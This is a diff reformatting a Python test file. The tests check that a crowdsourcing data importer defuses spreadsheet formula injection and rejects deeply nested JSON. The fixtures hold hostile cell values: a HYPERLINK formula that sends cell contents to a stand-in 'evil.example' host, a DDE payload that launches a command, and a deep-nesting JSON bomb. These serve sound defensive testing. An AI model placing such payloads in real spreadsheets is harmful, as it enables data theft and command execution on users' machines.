@@ -1,6 +1,7 @@
 """Files hitkit writes from hostile or failing input: ``hitkit import mturk`` makes every text cell
 inert for spreadsheets and refuses deep JSON with a message; an export that fails half-way (a full
 disk) leaves the previous file or none, never a truncated one."""
+
 from __future__ import annotations
 
 import errno
@@ -21,18 +22,48 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
 def _pairwise_mapping(tmp_path):
-    return write_mapping(tmp_path, {"task": "pairwise", "flatten": [], "pairwise": {
-        "items": 1, "item_id": "Input.item{i}", "system_a": "Input.left{i}", "system_b": "Input.right{i}",
-        "vote": "Answer.choice{i}", "votes": {"left": "a", "right": "b", "same": "tie"},
-        "systems": {"bot1": "alpha", "bot2": "beta"}}})
+    return write_mapping(
+        tmp_path,
+        {
+            "task": "pairwise",
+            "flatten": [],
+            "pairwise": {
+                "items": 1,
+                "item_id": "Input.item{i}",
+                "system_a": "Input.left{i}",
+                "system_b": "Input.right{i}",
+                "vote": "Answer.choice{i}",
+                "votes": {"left": "a", "right": "b", "same": "tie"},
+                "systems": {"bot1": "alpha", "bot2": "beta"},
+            },
+        },
+    )
 
 
 def test_import_mturk_writes_no_cell_that_starts_a_formula(tmp_path):
-    batch = write_batch(tmp_path, [
-        {"AssignmentId": HOSTILE, "HITId": "+cmd|' /C calc'!A0", "WorkerId": "AWORKERONE",
-         "Input.item0": "@SUM(1+1)", "Input.left0": "bot1", "Input.right0": "bot2", "Answer.choice0": "left"},
-        {"AssignmentId": "A2", "HITId": "-2+3", "WorkerId": "AWORKERTWO", "Input.item0": "p1",
-         "Input.left0": "bot2", "Input.right0": "bot1", "Answer.choice0": "right"}])
+    batch = write_batch(
+        tmp_path,
+        [
+            {
+                "AssignmentId": HOSTILE,
+                "HITId": "+cmd|' /C calc'!A0",
+                "WorkerId": "AWORKERONE",
+                "Input.item0": "@SUM(1+1)",
+                "Input.left0": "bot1",
+                "Input.right0": "bot2",
+                "Answer.choice0": "left",
+            },
+            {
+                "AssignmentId": "A2",
+                "HITId": "-2+3",
+                "WorkerId": "AWORKERTWO",
+                "Input.item0": "p1",
+                "Input.left0": "bot2",
+                "Input.right0": "bot1",
+                "Answer.choice0": "right",
+            },
+        ],
+    )
     import_mturk(batch, _pairwise_mapping(tmp_path), "old-ab", tmp_path / "out")
     for name in ("assignments", "votes"):
         table = pd.read_csv(tmp_path / "out" / f"{name}.csv", dtype=str, keep_default_na=False)
@@ -47,15 +78,27 @@ def test_import_mturk_writes_no_cell_that_starts_a_formula(tmp_path):
 
 def test_import_mturk_refuses_deep_json_answers_with_a_message_not_a_traceback(tmp_path):
     deep = "[" * 30_000 + "]" * 30_000
-    batch = write_batch(tmp_path, [{"AssignmentId": "A1", "WorkerId": "AWORKERONE", "Answer.taskAnswers": deep,
-                                    "Input.item0": "p1", "Input.left0": "bot1", "Input.right0": "bot2",
-                                    "Answer.choice0": "left"}])
+    batch = write_batch(
+        tmp_path,
+        [
+            {
+                "AssignmentId": "A1",
+                "WorkerId": "AWORKERONE",
+                "Answer.taskAnswers": deep,
+                "Input.item0": "p1",
+                "Input.left0": "bot1",
+                "Input.right0": "bot2",
+                "Answer.choice0": "left",
+            }
+        ],
+    )
     mapping = _pairwise_mapping(tmp_path)
     spec = yaml.safe_load(mapping.read_text())
     spec["flatten"] = ["Answer.taskAnswers"]
     mapping.write_text(yaml.safe_dump(spec))
-    result = CliRunner().invoke(main, ["import", "mturk", str(batch), "--mapping", str(mapping), "--study", "x",
-                                       "--out", str(tmp_path / "out")])
+    result = CliRunner().invoke(
+        main, ["import", "mturk", str(batch), "--mapping", str(mapping), "--study", "x", "--out", str(tmp_path / "out")]
+    )
     assert result.exit_code == 1, result.output
     assert "Traceback" not in result.output and not isinstance(result.exception, RecursionError)
     assert "Answer.taskAnswers" in result.output and "nested more than 32" in result.output
